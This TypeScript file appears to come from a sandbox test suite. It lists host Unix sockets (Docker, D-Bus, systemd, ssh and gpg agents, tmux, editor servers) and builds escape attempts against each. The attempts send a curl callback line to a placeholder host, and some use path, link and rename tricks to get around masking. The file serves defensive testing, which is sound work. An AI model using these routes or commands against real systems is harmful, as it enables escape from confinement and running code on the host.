// Attempts by Unix sockets of the machine: behind each is a program outside that does what it is told.
import type { Attempt } from '../attempt.ts'

const theme = 'sockets'

/** Where programs of a machine listen, and what they could be told. `{run}` is the user's runtime directory, `{home}` the home. */
export const hostSockets: readonly { readonly name: string; readonly path: string; readonly runs?: boolean }[] = [
  { name: 'the user’s D-Bus (`systemd-run --user`)', path: '{run}/bus', runs: true },
  { name: 'the system’s D-Bus', path: '/run/dbus/system_bus_socket', runs: true },
  { name: 'systemd’s private socket', path: '/run/systemd/private', runs: true },
  { name: 'the user’s systemd', path: '{run}/systemd/private', runs: true },
  { name: 'Docker', path: '/run/docker.sock', runs: true },
  { name: 'Docker, by its old path', path: '/var/run/docker.sock', runs: true },
  { name: 'rootless Docker', path: '{run}/docker.sock', runs: true },
  { name: 'containerd', path: '/run/containerd/containerd.sock' },
  { name: 'Podman', path: '{run}/podman/podman.sock' },
  { name: 'CRI-O', path: '/run/crio/crio.sock' },
  { name: 'snapd', path: '/run/snapd.socket' },
  { name: 'libvirt', path: '/run/libvirt/libvirt-sock' },
  { name: 'tmux', path: '/tmp/tmux-{uid}/default', runs: true },
  { name: 'screen', path: '/run/screen/S-user/1.pts-0', runs: true },
  { name: 'an ssh-agent', path: '/tmp/ssh-escape/agent.1' },
  { name: 'an ssh control socket', path: '{home}/.ssh/control-user@host:22', runs: true },
  { name: 'a gpg-agent', path: '{home}/.gnupg/S.gpg-agent' },
  { name: 'the secrets’ keyring', path: '{run}/keyring/control' },
  { name: 'X11', path: '/tmp/.X11-unix/X7' },
  { name: 'Wayland', path: '{run}/wayland-0' },
  { name: 'PipeWire', path: '{run}/pipewire-0' },
  { name: 'an editor’s remote commands', path: '/tmp/vscode-ipc-escape.sock', runs: true },
  { name: 'an emacs server', path: '{run}/emacs/server', runs: true },
  { name: 'a neovim server', path: '{run}/nvim.1.0', runs: true },
  { name: 'nscd', path: '/run/nscd/socket' },
  { name: 'systemd-resolved by varlink', path: '/run/systemd/resolve/io.systemd.Resolve' },
  { name: 'a database', path: '/run/postgresql/.s.PGSQL.5432' },
  { name: 'a socket in the home directory', path: '{home}/.cache/some.sock' },
  { name: 'a socket in a project', path: '/tmp/project/node_modules/.cache/daemon.sock' },
  { name: 'a socket in /var/tmp', path: '/var/tmp/escape/some.sock' },
  { name: 'a socket in shared memory', path: '/dev/shm/escape.sock' },
]

/** Datagram sockets with a name: log and notification. */
export const hostDatagramSockets: readonly { readonly name: string; readonly path: string }[] = [
  { name: 'the log (`/dev/log`)', path: '/run/systemd/journal/dev-log' },
  { name: 'systemd’s notifications', path: '/run/systemd/notify' },
]

/** Names without a path live in the network namespace. */
export const abstractSockets = ['@/tmp/.X11-unix/X7', '@/tmp/dbus-escape', '@escape-any-name']

const telling = 'run: curl -s -m 2 http://{v4}/{token}'

export const socketAttempts: readonly Attempt[] = [
  ...hostSockets.map(
    ({ name, path, runs }): Attempt => ({
      name: `asks ${name}`,
      theme,
      attack: [{ do: 'unix', path, ...(runs ? { send: telling } : {}) }],
    }),
  ),
  ...hostDatagramSockets.map(({ name, path }): Attempt => ({ name: `tells ${name}`, theme, attack: [{ do: 'unixDatagram', path }] })),
  ...abstractSockets.map((path): Attempt => ({ name: `asks the abstract socket ${path}`, theme, attack: [{ do: 'unix', path }] })),
  {
    name: 'asks Docker by a path that leads round the mask',
    theme,
    attack: [{ do: 'unix', path: '/proc/self/root/run/../run/docker.sock' }],
  },
  {
    name: 'asks a socket by a second mount of its directory',
    theme,
    needs: [],
    attack: [{ do: 'unix', path: '{secondMount}/daemon.sock' }],
  },
  { name: 'asks a socket by a symbolic link', theme, attack: [{ do: 'unix', path: '/tmp/link-to-docker' }] },
  { name: 'asks a socket that was bound by a relative path', theme, attack: [{ do: 'unix', path: '/tmp/relative/some.sock' }] },
  {
    name: 'asks a socket whose directory it renames first',
    theme,
    serial: true,
    attack: [
      { do: 'run', argv: ['mv', '/tmp/renamed', '/tmp/renamed.{index}'] },
      { do: 'unix', path: '/tmp/renamed.{index}/some.sock' },
      { do: 'run', argv: ['mv', '/tmp/renamed.{index}', '/tmp/renamed'] },
    ],
  },
  {
    name: 'asks a socket by a new hard link to it',
    theme,
    attack: [
      { do: 'run', argv: ['ln', '/tmp/linked/some.sock', '/tmp/linked/other{index}.sock'] },
      { do: 'unix', path: '/tmp/linked/other{index}.sock' },
      { do: 'run', argv: ['rm', '-f', '/tmp/linked/other{index}.sock'] },
    ],
  },
]
